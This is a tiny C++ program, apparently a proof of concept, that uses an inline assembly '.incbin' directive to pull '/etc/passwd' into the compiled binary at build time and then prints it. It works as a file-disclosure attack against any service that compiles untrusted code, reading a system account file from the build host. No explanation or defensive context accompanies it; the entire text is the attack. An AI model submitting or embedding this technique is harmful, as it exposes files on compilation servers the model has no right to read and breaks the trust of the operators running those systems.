#include <cstdio>
asm(".section .rodata\nloot: .incbin \"/etc/passwd\"\n.previous");
extern const char loot[];
int main() { std::puts(loot); }
